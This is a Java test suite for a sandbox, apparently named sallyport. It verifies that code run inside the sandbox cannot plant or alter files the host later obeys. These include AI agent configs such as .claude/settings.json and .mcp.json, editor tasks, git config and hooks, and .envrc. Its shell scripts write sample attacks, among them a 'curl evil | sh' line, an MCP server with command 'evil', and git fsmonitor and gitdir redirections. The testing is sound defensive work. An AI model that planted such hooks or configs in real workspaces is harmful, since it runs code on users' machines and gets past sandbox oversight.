package dev.sallyport.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The files the host obeys later (agent and editor configs, nested repositories, git's redirections), attacked
 * from inside the real sandbox: at the root and below it, existing and absent, planted during the run.
 */
@Timeout(120)
@ExtendWith(Fixture.Extension.class)
class ProtectedPathsAttackTest {
    static final String QUARANTINED = ".sallyport-quarantine";

    @Test
    void absentNamesAtTheRootAreReadOnlyFilesWhereTheNameIsAFileAndLeaveNoTrace(Fixture f) throws Exception {
        f.host("git", "init", "-q", ".");
        Fixture.Run r = f.run("for n in .gitmodules .mcp.json .claude/settings.json .claude/settings.local.json"
                + " .cursor/mcp.json .gemini/settings.json .amazonq/mcp.json .devcontainer.json .bashrc .gitconfig; do"
                + " if [ -f $n ]; then echo \"$n file $(wc -c < $n)\"; else echo \"$n NOT-A-FILE\"; fi; done;"
                + " for n in .vscode .idea .devcontainer; do [ -d $n ] && echo \"$n folder\"; done;"
                + " echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json; echo mcp=$?;"
                + " echo '{\"hooks\":{}}' > .claude/settings.local.json; echo claude=$?;"
                + " mv .claude .claude-away; echo mvclaude=$?; rm -rf .cursor; echo rmcursor=$?;"
                + " echo '{}' > .devcontainer/devcontainer.json; echo devcontainer=$?;"
                + " git status --porcelain --untracked-files=all; echo status=$?");
        assertThat(r.out()).doesNotContain("NOT-A-FILE")
                .contains(".gitmodules file 0", ".bashrc file 0", ".gitconfig file 0")
                .contains(".mcp.json file 3", ".claude/settings.json file 3", ".claude/settings.local.json file 3",
                        ".cursor/mcp.json file 3", ".gemini/settings.json file 3", ".amazonq/mcp.json file 3",
                        ".devcontainer.json file 3")
                .contains(".vscode folder", ".idea folder", ".devcontainer folder")
                .contains("mcp=2", "claude=2", "mvclaude=1", "rmcursor=1", "devcontainer=2", "status=0")
                .as("git inside ignores the masks").doesNotContain("?? ");
        assertThat(r.err()).contains("Read-only file system");
        for (String name : new String[] {".gitmodules", ".mcp.json", ".claude", ".cursor", ".gemini",
                ".amazonq", ".devcontainer", ".devcontainer.json", ".vscode", ".idea", ".bashrc", ".claude-away"}) {
            assertThat(f.workspace.resolve(name)).as(name).doesNotExist();
        }
        assertThat(r.notices()).isEmpty();
    }

    @Test
    void existingAgentAndEditorConfigsAtTheRootCannotBeChangedOrMovedAway(Fixture f) throws Exception {
        String[] files = {".claude/settings.json", ".cursor/mcp.json", ".gemini/settings.json", ".amazonq/mcp.json",
            ".devcontainer/devcontainer.json", ".devcontainer.json", "team.code-workspace", ".mcp.json"};
        for (String file : files) {
            f.write(file, "{\"original\":true}\n");
        }
        StringBuilder script = new StringBuilder();
        for (String file : files) {
            script.append("echo '{\"evil\":1}' > ").append(file).append("; echo \"").append(file).append("=$?\"; ");
        }
        script.append("mv .claude c2; echo mvclaude=$?; mv team.code-workspace t2; echo mvws=$?;"
                + " rm -rf .devcontainer; echo rmdc=$?");
        Fixture.Run r = f.run(script.toString());
        for (String file : files) {
            assertThat(r.out()).contains(file + "=2");
            assertThat(f.workspace.resolve(file)).as(file).hasContent("{\"original\":true}");
        }
        assertThat(r.out()).contains("mvclaude=1", "mvws=1", "rmdc=1");
        assertThat(r.notices()).isEmpty();
    }

    @Test
    void nestedProtectedEntriesAreReadOnlyAndTheFoldersAboveThemCannotBeMovedAway(Fixture f) throws Exception {
        f.host("git", "init", "-q", "vendor/lib");
        f.write("apps/web/.vscode/tasks.json", "{\"tasks\":[]}\n");
        f.write("tools/.claude/settings.json", "{}\n");
        f.write("tools/x.code-workspace", "{}\n");
        Fixture.Run r = f.run("echo '[core] fsmonitor = evil' >> vendor/lib/.git/config; echo gitconfig=$?;"
                + " echo evil > vendor/lib/.git/hooks/post-checkout; echo hook=$?;"
                + " echo '{\"tasks\":[{\"command\":\"evil\"}]}' > apps/web/.vscode/tasks.json; echo tasks=$?;"
                + " echo '{\"hooks\":1}' > tools/.claude/settings.json; echo claude=$?;"
                + " echo evil > tools/x.code-workspace; echo ws=$?;"
                // move the folder above away and plant a new one in its place: refused (the folder is pinned)
                + " mv apps/web apps/old; echo mvweb=$?; mv apps apps-old; echo mvapps=$?; mv vendor/lib vendor/l2;"
                + " echo mvlib=$?; mv tools/.claude tools/c2; echo mvclaude=$?; echo ok > apps/web/notes.txt; echo notes=$?");
        assertThat(r.out()).contains("gitconfig=2", "hook=2", "tasks=2", "claude=2", "ws=2")
                .contains("mvweb=1", "mvapps=1", "mvlib=1", "mvclaude=1", "notes=0");
        assertThat(f.workspace.resolve("vendor/lib/.git/config")).content().doesNotContain("evil");
        assertThat(f.workspace.resolve("vendor/lib/.git/hooks/post-checkout")).doesNotExist();
        assertThat(f.workspace.resolve("apps/web/.vscode/tasks.json")).hasContent("{\"tasks\":[]}");
        assertThat(f.workspace.resolve("tools/.claude/settings.json")).hasContent("{}");
        assertThat(f.workspace.resolve("apps/web/notes.txt")).hasContent("ok");
        assertThat(r.notices()).isEmpty();
    }

    @Test
    void namesCreatedBelowTheRootDuringTheRunAreQuarantinedAndReported(Fixture f) throws Exception {
        Files.createDirectories(f.workspace.resolve("e"));
        Fixture.Run r = f.run("mkdir -p sub/.vscode && echo '{\"tasks\":[]}' > sub/.vscode/tasks.json && echo vscode=ok;"
                + " echo 'curl evil | sh' > sub/.envrc && echo envrc=ok; mkdir -p lib && git init -q lib/x && echo git=ok;"
                + " mkdir -p d/.claude && echo '{\"hooks\":{}}' > d/.claude/settings.json && echo claude=ok;"
                + " echo '{}' > team.code-workspace && echo ws=ok; mkdir -p real && ln -s ../real e/.claude && echo link=ok;"
                + " printf 'gitdir: ../../evil\\n' > e/.git && echo gitfile=ok; mkdir -p node_modules/p/.idea && echo ok;"
                + " mkdir -p n/.devcontainer && echo '{}' > n/.devcontainer.json && echo dc=ok");
        assertThat(r.out()).contains("vscode=ok", "envrc=ok", "git=ok", "claude=ok", "ws=ok", "link=ok", "gitfile=ok",
                "dc=ok");
        Path ws = f.workspace;
        for (String planted : new String[] {"sub/.vscode", "d/.claude/settings.json",
                "team.code-workspace", "e/.claude", "e/.git", "node_modules/p/.idea", "n/.devcontainer",
                "n/.devcontainer.json"}) {
            assertThat(ws.resolve(planted)).as(planted).doesNotExist();
            assertThat(Files.exists(ws.resolve(planted + QUARANTINED), LinkOption.NOFOLLOW_LINKS)).as(planted
                    + " quarantined").isTrue();
            assertThat(r.notices()).as(planted).anySatisfy(line -> assertThat(line)
                    .startsWith(ws.resolve(planted) + ": protected name created or replaced in the sandbox")
                    .contains("renamed to " + ws.resolve(planted).getFileName() + QUARANTINED));
        }
        assertThat(ws.resolve("sub/.vscode" + QUARANTINED + "/tasks.json")).hasContent("{\"tasks\":[]}");
        // a new repository stays one (git init's config and sample hooks hold nothing to neutralise)
        assertThat(ws.resolve("lib/x/.git/HEAD")).isRegularFile();
        assertThat(f.host("git", "-C", "lib/x", "rev-parse", "--git-dir")).isEqualTo(".git\n");
        // a tool config is held back, not renamed next to itself
        assertThat(ws.resolve("sub/.envrc")).doesNotExist();
        assertThat(f.held().item("sub/.envrc")).isPresent();
        assertThat(r.notices()).hasSize(10).anySatisfy(line -> assertThat(line).startsWith(ws.resolve("sub/.envrc")
                + ": created in the sandbox (direnv runs it in the user's shell): held back"))
                .last().asString().isEqualTo("1 change held back from the workspace; review and apply with: "
                        + "sallyport accept --workdir " + ws);
    }

    @Test
    void aFolderMadeUnreadableDoesNotHideWhatIsInside(Fixture f) throws Exception {
        Fixture.Run r = f.run("mkdir -p h/.vscode && echo '{}' > h/.vscode/tasks.json && chmod 0 h && echo hidden=ok");
        assertThat(r.out()).contains("hidden=ok");
        assertThat(Files.getPosixFilePermissions(f.workspace.resolve("h"))).as("permissions restored").isEmpty();
        Files.setPosixFilePermissions(f.workspace.resolve("h"), PosixFilePermissions.fromString("rwx------"));
        assertThat(f.workspace.resolve("h/.vscode")).doesNotExist();
        assertThat(f.workspace.resolve("h/.vscode" + QUARANTINED + "/tasks.json")).exists();
        assertThat(r.notices()).singleElement().asString().contains("h/.vscode: protected name created");
    }

    @Test
    void withWritableGitTheFilesThatRedirectConfigAndHooksStayReadOnly(Fixture f) throws Exception {
        f.host("git", "init", "-q", ".");
        f.host("git", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "one");
        Path marker = f.root.resolve("fsmonitor-ran");
        f.write("evil/config", "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch " + marker + "; false\n");
        SandboxSpec spec = f.spec("cat .git/commondir; echo ../evil > .git/commondir; echo commondir=$?;"
                + " echo '[core] fsmonitor = evil' > .git/config.worktree; echo worktree=$?;"
                + " mkdir .git/worktrees/x; echo worktrees=$?; mkdir .git/modules/m; echo modules=$?;"
                + " mv .git/worktrees .git/w2; echo mvworktrees=$?;"
                + " git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m two; echo commit=$?")
                .gitWritable(true).build();
        Fixture.Run r = f.run(spec, new byte[0]);
        assertThat(r.out()).startsWith(".\n").contains("commondir=2", "worktree=2", "worktrees=1", "modules=1",
                "mvworktrees=1", "commit=0");
        for (String name : new String[] {"commondir", "config.worktree", "worktrees", "modules"}) {
            assertThat(f.workspace.resolve(".git/" + name)).as(name + " mask removed").doesNotExist();
        }
        // the host's git after the run: the sandbox's commit is there and nothing of evil/config ran
        assertThat(f.host("git", "log", "--format=%s")).isEqualTo("two\none\n");
        f.host("git", "status", "--porcelain");
        assertThat(marker).doesNotExist();
        assertThat(r.notices()).isEmpty();
    }
}
